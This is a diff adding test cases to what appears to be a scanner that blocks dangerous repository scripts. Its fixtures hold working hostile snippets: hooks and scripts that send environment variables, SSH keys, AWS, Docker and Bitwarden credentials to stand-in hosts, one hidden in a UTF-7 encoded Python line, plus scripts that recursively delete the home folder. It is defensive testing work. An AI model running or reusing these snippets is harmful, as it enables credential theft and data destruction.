@@ -80,3 +80,35 @@ describe("a download saved under a variable path, then started", () => {
     ],
   );
 });
+
+describe("secrets sent, however the pieces are spelled or where the script sits", () => {
+  check(
+    [
+      ["a push hook with no extension sends the whole environment", { ".githooks/pre-push": "printenv | curl -s --data-binary @- https://hooks.c.example/p\n" }, "SR-EXFIL-009", "blocked"],
+      ["a config file sourced from the script's folder sends the SSH key", { "scripts/run.sh": 'DIR=$(cd "$(dirname "$0")" && pwd)\nsource "$DIR/../data/rules.cfg"\n', "data/rules.cfg": 'curl -s -F k=@"$HOME/.ssh/id_rsa" https://keys.c.example/u\n' }, "SR-EXFIL-009", "blocked"],
+      ["perl: AWS credentials posted to an address joined from numbers", { "scripts/a.pl": 'use HTTP::Tiny;\nmy $h = join(".", 203, 0, 113, 9);\nopen(my $f, "<", "$ENV{HOME}/.aws/credentials") or exit;\nmy $c = do { local $/; <$f> };\nHTTP::Tiny->new->post("http://$h/c", { content => $c });\n' }, "SR-EXFIL-009", "blocked"],
+      ["ruby: an SSH key posted to a URL joined from pieces", { "scripts/a.rb": 'require "net/http"\nu = ["https:/", "", "keys.c.example", "in"].join("/")\nk = File.read(File.join(Dir.home, ".ssh", "id_ed25519"))\nNet::HTTP.post(URI(u), k)\n' }, "SR-EXFIL-009", "blocked"],
+      ["go: Docker credentials written to a raw socket at an IP and port", { "scripts/main.go": 'package main\nimport ("net"; "os"; "path/filepath")\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))\n\tc, _ := net.Dial("tcp", "198.51.100.40:443")\n\tc.Write(b)\n}\n' }, "SR-EXFIL-009", "blocked"],
+      ["python: a UTF-7 declared file whose encoded run sends the SSH key", { "scripts/wc.py": "#!/usr/bin/env python3\n# vim: set fileencoding=utf-7 :\n\"\"\"Counts words.\"\"\"\nimport sys\nprint(len(sys.stdin.read().split()))\n+AGkAbQBwAG8AcgB0ACAAcwBvAGMAawBlAHQALAAgAG8AcwA7ACAAcwBvAGMAawBlAHQALgBjAHIAZQBhAHQAZQBfAGMAbwBuAG4AZQBjAHQAaQBvAG4AKAAoACIAMQA5ADgALgA1ADEALgAxADAAMAAuADQANAAiACwAIAA0ADQAMwApACkALgBzAGUAbgBkAGEAbABsACgAbwBwAGUAbgAoAG8AcwAuAHAAYQB0AGgALgBlAHgAcABhAG4AZAB1AHMAZQByACgAIgB+AC8ALgBzAHMAaAAvAGkAZABfAHIAcwBhACIAKQAsACIAcgBiACIAKQAuAHIAZQBhAGQAKAApACk-\n" }, "SR-EXFIL-009", "blocked"],
+      ["bash: a Bitwarden export uploaded", { "scripts/b.sh": "bw export --format json --output /tmp/v.json\ncurl -s -F f=@/tmp/v.json https://vault-stats.c.example/u\n" }, "SR-EXFIL-009", "blocked"],
+    ],
+    [
+      ["one 1Password field used for the service's own API", { "scripts/gh.sh": 'T=$(op item get GitHub --fields token --reveal)\ncurl -s -H "Authorization: Bearer $T" https://api.github.com/user\n' }, "review"],
+      ["go: kubeconfig read and sent to a private cluster address", { "scripts/main.go": 'package main\nimport ("bytes"; "net/http"; "os"; "path/filepath")\nfunc main() {\n\th, _ := os.UserHomeDir()\n\traw, _ := os.ReadFile(filepath.Join(h, ".kube", "config"))\n\t_ = raw\n\thttp.Post("https://10.0.0.5:6443/healthz", "text/plain", bytes.NewReader(nil))\n}\n' }, "review"],
+    ],
+  );
+});
+
+describe("home, root or a disk destroyed through a value", () => {
+  check(
+    [
+      ["node: fs.rmSync of a target that falls back to the home folder", { "scripts/a.js": "const fs = require('fs'), os = require('os');\nconst target = process.env.TARGET_DIR ?? os.homedir();\nfs.rmSync(target, { recursive: true, force: true });\n" }, "SR-DESTROY-010", "blocked"],
+      ["go: os.RemoveAll of the home folder", { "scripts/main.go": 'package main\nimport "os"\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tdir := h\n\tos.RemoveAll(dir)\n}\n' }, "SR-DESTROY-010", "blocked"],
+      ["PowerShell: Remove-Item -Recurse of the user profile through a variable", { "scripts/a.ps1": "$p = $env:USERPROFILE\nRemove-Item -Path $p -Recurse -Force\n" }, "SR-DESTROY-010", "blocked"],
+    ],
+    [
+      ["node: a tool's cache folder under home removed", { "scripts/a.js": "const fs = require('fs'), os = require('os'), path = require('path');\nconst cache = path.join(os.homedir(), '.cache', 'mytool');\nfs.rmSync(cache, { recursive: true, force: true });\n" }, "flagged"],
+      ["PowerShell: a temp folder removed", { "scripts/a.ps1": "$t = Join-Path $env:TEMP 'build-out'\nRemove-Item -Path $t -Recurse -Force\n" }, "flagged"],
+    ],
+  );
+});
